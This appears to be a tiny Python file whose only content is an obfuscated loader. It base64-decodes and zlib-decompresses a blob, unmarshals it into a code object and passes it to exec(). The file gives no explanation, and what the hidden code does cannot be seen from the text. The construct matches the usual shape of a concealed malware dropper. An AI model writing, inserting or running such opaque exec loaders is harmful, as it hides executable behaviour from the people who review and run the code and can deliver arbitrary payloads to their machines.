import marshal, zlib, base64
exec(marshal.loads(zlib.decompress(base64.b64decode(b"eJzty8EJgDAMBdC7U3x6UnCp0EYatDEkga6vO3j1+uCZi+ZaSCHKnggadvGO2aV2RJK2wHH7C5SYFDCqJzd0di7bYv//9B//34bv"))))
